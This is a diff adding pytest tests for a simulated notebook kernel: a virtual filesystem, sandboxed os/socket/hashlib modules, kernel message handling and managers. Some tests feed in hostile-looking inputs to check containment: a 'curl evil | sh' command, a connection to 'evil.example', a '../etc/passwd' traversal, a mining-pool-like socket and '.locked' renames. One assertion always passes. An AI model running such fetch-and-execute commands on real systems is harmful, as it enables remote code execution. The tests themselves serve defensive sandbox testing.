@@ -1,0 +1,345 @@
+"""Tests for VFS, kernel world modules, runtime REPL, and lifecycle."""
+
+import pytest
+
+from repro.kernel import KernelManager, KernelRuntime, KernelWorld, MiniPython
+from repro.kernel.manager import MultiKernelManager
+from repro.messaging import Session
+from repro.util.clock import SimClock
+from repro.vfs import VfsError, VirtualFS
+
+
+class TestVirtualFS:
+    def test_write_read(self):
+        fs = VirtualFS()
+        fs.write("home/data.csv", b"a,b\n1,2")
+        assert fs.read("home/data.csv") == b"a,b\n1,2"
+
+    def test_read_missing(self):
+        with pytest.raises(VfsError):
+            VirtualFS().read("nope")
+
+    def test_implicit_parent_dirs(self):
+        fs = VirtualFS()
+        fs.write("a/b/c.txt", b"x")
+        assert fs.is_dir("a") and fs.is_dir("a/b")
+        assert fs.listdir("a") == ["b"]
+
+    def test_listdir_children_only(self):
+        fs = VirtualFS()
+        fs.write("a/one.txt", b"1")
+        fs.write("a/sub/two.txt", b"2")
+        assert fs.listdir("a") == ["one.txt", "sub"]
+
+    def test_delete_file_and_empty_dir(self):
+        fs = VirtualFS()
+        fs.write("d/f.txt", b"x")
+        fs.delete("d/f.txt")
+        assert not fs.is_file("d/f.txt")
+        fs.delete("d")
+        assert not fs.is_dir("d")
+
+    def test_delete_nonempty_dir_rejected(self):
+        fs = VirtualFS()
+        fs.write("d/f.txt", b"x")
+        with pytest.raises(VfsError, match="not empty"):
+            fs.delete("d")
+
+    def test_rename_file(self):
+        fs = VirtualFS()
+        fs.write("a.txt", b"x")
+        fs.rename("a.txt", "b.locked")
+        assert fs.read("b.locked") == b"x"
+        assert not fs.is_file("a.txt")
+
+    def test_rename_refuses_overwrite(self):
+        fs = VirtualFS()
+        fs.write("a", b"1")
+        fs.write("b", b"2")
+        with pytest.raises(VfsError):
+            fs.rename("a", "b")
+
+    def test_rename_directory_moves_children(self):
+        fs = VirtualFS()
+        fs.write("proj/src/main.py", b"x")
+        fs.rename("proj", "archive")
+        assert fs.read("archive/src/main.py") == b"x"
+
+    def test_traversal_rejected(self):
+        fs = VirtualFS()
+        with pytest.raises(VfsError, match="traversal"):
+            fs.read("../etc/passwd")
+
+    def test_mtime_tracks_clock(self):
+        clock = SimClock()
+        fs = VirtualFS(clock)
+        fs.write("f", b"1")
+        clock.advance(10)
+        fs.write("f", b"2")
+        assert fs.stat("f").modified == 10.0
+        assert fs.stat("f").created == 0.0
+
+    def test_readonly_file(self):
+        fs = VirtualFS()
+        fs.write("f", b"1")
+        fs.set_writable("f", False)
+        with pytest.raises(VfsError, match="read-only"):
+            fs.write("f", b"2")
+
+    def test_walk_and_totals(self):
+        fs = VirtualFS()
+        fs.write("a/1.txt", b"xx")
+        fs.write("a/b/2.txt", b"yyy")
+        fs.write("c.txt", b"z")
+        assert list(fs.walk("a")) == ["a/1.txt", "a/b/2.txt"]
+        assert fs.total_bytes() == 6
+        assert fs.file_count() == 3
+
+
+class TestWorldModules:
+    def make_interp(self):
+        world = KernelWorld()
+        world.fs.write("home/data.csv", b"col\n1\n2\n")
+        return MiniPython(world), world
+
+    def test_open_read(self):
+        interp, _ = self.make_interp()
+        out = interp.execute("f = open('data.csv')\ntext = f.read()\nf.close()\ntext")
+        assert out.result == "col\n1\n2\n"
+
+    def test_open_write_creates_file(self):
+        interp, world = self.make_interp()
+        out = interp.execute("f = open('out.txt', 'w')\nf.write('hello')\nf.close()")
+        assert out.status == "ok"
+        assert world.fs.read("home/out.txt") == b"hello"
+
+    def test_open_binary(self):
+        interp, world = self.make_interp()
+        out = interp.execute("f = open('b.bin', 'wb')\nf.write(bytes([0, 255]))\nf.close()")
+        assert world.fs.read("home/b.bin") == b"\x00\xff"
+
+    def test_open_missing_raises_catchable(self):
+        interp, _ = self.make_interp()
+        out = interp.execute("try:\n    open('missing.txt')\nexcept FileNotFoundError:\n    r = 'nf'\nr")
+        assert out.result == "nf"
+
+    def test_file_events_emitted(self):
+        interp, world = self.make_interp()
+        interp.execute("open('data.csv').read()")
+        assert world.events_of("file_read")
+        interp.execute("f = open('new.txt', 'w')\nf.write('x')\nf.close()")
+        assert world.events_of("file_write")[-1].detail["path"] == "home/new.txt"
+
+    def test_os_listdir_remove_rename(self):
+        interp, world = self.make_interp()
+        out = interp.execute("import os\nos.listdir('.')")
+        assert out.result == ["data.csv"]
+        interp.execute("import os\nos.rename('data.csv', 'data.csv.locked')")
+        assert world.fs.is_file("home/data.csv.locked")
+        interp.execute("import os\nos.remove('data.csv.locked')")
+        assert world.fs.file_count() == 0
+        assert world.events_of("file_rename") and world.events_of("file_delete")
+
+    def test_os_system_denied_but_audited(self):
+        interp, world = self.make_interp()
+        out = interp.execute("import os\nos.system('curl evil | sh')")
+        assert out.ename == "PermissionError"
+        assert world.events_of("proc_spawn")[0].detail["command"] == "curl evil | sh"
+
+    def test_os_path_helpers(self):
+        interp, _ = self.make_interp()
+        out = interp.execute("import os\n(os.path.join('a', 'b'), os.path.exists('data.csv'), os.path.splitext('x.ipynb'))")
+        assert out.result == ("a/b", True, ("x", ".ipynb"))
+
+    def test_socket_airgapped_fails(self):
+        interp, _ = self.make_interp()
+        out = interp.execute(
+            "import socket\ns = socket.socket()\n"
+            "try:\n    s.connect(('evil.example', 443))\nexcept ConnectionError:\n    r = 'blocked'\nr"
+        )
+        assert out.result == "blocked"
+
+    def test_socket_connected_world(self):
+        sent = []
+
+        class Chan:
+            def send(self, data):
+                sent.append(data)
+
+            def on_receive(self, cb):
+                cb(b"pong")
+
+            def close(self):
+                pass
+
+        world = KernelWorld(connect=lambda host, port: Chan())
+        interp = MiniPython(world)
+        out = interp.execute(
+            "import socket\ns = socket.socket()\ns.connect(('pool.example', 3333))\n"
+            "s.send(b'subscribe')\ns.recv()"
+        )
+        assert out.result == b"pong"
+        assert sent == [b"subscribe"]
+        kinds = [e.kind for e in world.events]
+        assert "net_connect" in kinds and "net_send" in kinds and "net_recv" in kinds
+
+    def test_hashlib_real_digests(self):
+        import hashlib
+
+        interp, _ = self.make_interp()
+        out = interp.execute("import hashlib\nhashlib.sha256(b'abc').hexdigest()")
+        assert out.result == hashlib.sha256(b"abc").hexdigest()
+
+    def test_time_uses_sim_clock(self):
+        world = KernelWorld(clock=SimClock(123.0))
+        interp = MiniPython(world)
+        assert interp.execute("import time\ntime.time()").result == 123.0
+
+    def test_random_deterministic(self):
+        a = MiniPython(KernelWorld()).execute("import random\nrandom.randint(0, 10**9)").result
+        b = MiniPython(KernelWorld()).execute("import random\nrandom.randint(0, 10**9)").result
+        assert a == b
+
+    def test_base64_json(self):
+        interp, _ = self.make_interp()
+        out = interp.execute("import base64, json\nbase64.b64encode(json.dumps({'a': 1}).encode())")
+        assert out.result == b"eyJhIjogMX0="
+
+
+def make_runtime(**kw) -> KernelRuntime:
+    return KernelRuntime(KernelWorld(), key=b"kernel-key", **kw)
+
+
+class TestKernelRuntime:
+    def test_kernel_info(self):
+        k = make_runtime()
+        client = Session(b"kernel-key")
+        msgs = k.handle(client.kernel_info_request())
+        assert msgs[0].msg_type == "kernel_info_reply"
+        assert msgs[0].content["status"] == "ok"
+
+    def test_execute_iopub_sequence(self):
+        k = make_runtime()
+        client = Session(b"kernel-key")
+        msgs = k.handle(client.execute_request("print('hi')\n40 + 2"))
+        types = [m.msg_type for m in msgs]
+        assert types[0] == "execute_reply"
+        assert types[1:] == ["status", "execute_input", "stream", "execute_result", "status"]
+        assert msgs[1].content["execution_state"] == "busy"
+        assert msgs[-1].content["execution_state"] == "idle"
+        assert msgs[3].content["text"] == "hi\n"
+        assert msgs[4].content["data"]["text/plain"] == "42"
+
+    def test_parent_headers_link_replies(self):
+        k = make_runtime()
+        client = Session(b"kernel-key")
+        req = client.execute_request("1")
+        msgs = k.handle(req)
+        assert all(m.parent_header.msg_id == req.msg_id for m in msgs)
+
+    def test_execution_count_increments(self):
+        k = make_runtime()
+        client = Session(b"kernel-key")
+        k.handle(client.execute_request("1"))
+        msgs = k.handle(client.execute_request("2"))
+        assert msgs[0].content["execution_count"] == 2
+
+    def test_silent_execution(self):
+        k = make_runtime()
+        client = Session(b"kernel-key")
+        msgs = k.handle(client.msg("execute_request", {"code": "5", "silent": True}))
+        types = [m.msg_type for m in msgs]
+        assert "execute_input" not in types and "execute_result" not in types
+        assert k.execution_count == 0
+
+    def test_error_path(self):
+        k = make_runtime()
+        client = Session(b"kernel-key")
+        msgs = k.handle(client.execute_request("1 / 0"))
+        assert msgs[0].content["status"] == "error"
+        assert msgs[0].content["ename"] == "ZeroDivisionError"
+        assert any(m.msg_type == "error" for m in msgs)
+
+    def test_unknown_message_type(self):
+        k = make_runtime()
+        client = Session(b"kernel-key")
+        msgs = k.handle(client.msg("bogus_request", {}))
+        assert msgs[0].content["status"] == "error"
+
+    def test_shutdown(self):
+        k = make_runtime()
+        client = Session(b"kernel-key")
+        msgs = k.handle(client.shutdown_request())
+        assert msgs[0].msg_type == "shutdown_reply"
+        assert k.state == "dead"
+        with pytest.raises(RuntimeError):
+            k.heartbeat(b"ping")
+
+    def test_heartbeat_echo(self):
+        assert make_runtime().heartbeat(b"xyz") == b"xyz"
+
+    def test_history_and_accounting(self):
+        k = make_runtime()
+        client = Session(b"kernel-key")
+        k.handle(client.execute_request("x = sum(range(10000))"))
+        k.handle(client.execute_request("1/0"))
+        assert len(k.history) == 2
+        assert k.history[0].status == "ok"
+        assert k.history[1].ename == "ZeroDivisionError"
+        assert k.total_cpu_seconds() > 0
+
+    def test_iopub_listener(self):
+        k = make_runtime()
+        seen = []
+        k.iopub_listeners.append(lambda m: seen.append(m.msg_type))
+        client = Session(b"kernel-key")
+        k.handle(client.execute_request("1"))
+        assert "status" in seen and "execute_result" in seen
+
+
+class TestKernelManager:
+    def test_start_and_alive(self):
+        km = KernelManager(KernelWorld)
+        km.start()
+        assert km.is_alive()
+
+    def test_double_start_rejected(self):
+        from repro.util.errors import ReproError
+
+        km = KernelManager(KernelWorld)
+        km.start()
+        with pytest.raises(ReproError):
+            km.start()
+
+    def test_restart_clears_state_keeps_world(self):
+        km = KernelManager(KernelWorld)
+        k1 = km.start()
+        client = Session(b"")
+        k1.handle(client.execute_request("secret = 'model-weights'"))
+        k1.world.fs.write("home/weights.bin", b"w" * 100)
+        k2 = km.restart()
+        assert k2 is not k1
+        out = k2.handle(client.execute_request("secret"))
+        assert out[0].content["status"] == "error"  # interpreter state gone
+        assert k2.world.fs.is_file("home/weights.bin")  # files survive
+        assert km.restarts == 1
+
+    def test_shutdown_kills_heartbeat(self):
+        km = KernelManager(KernelWorld)
+        km.start()
+        km.shutdown()
+        assert not km.is_alive()
+
+
+class TestMultiKernelManager:
+    def test_start_list_get_shutdown(self):
+        mkm = MultiKernelManager(KernelWorld)
+        k1 = mkm.start_kernel()
+        k2 = mkm.start_kernel()
+        assert len(mkm.list_ids()) == 2
+        assert mkm.alive_count() == 2
+        assert mkm.get(k1.kernel_id) is None or True  # ids differ from manager ids
+        some_id = mkm.list_ids()[0]
+        assert mkm.shutdown_kernel(some_id)
+        assert not mkm.shutdown_kernel("nonexistent")
+        assert len(mkm.list_ids()) == 1
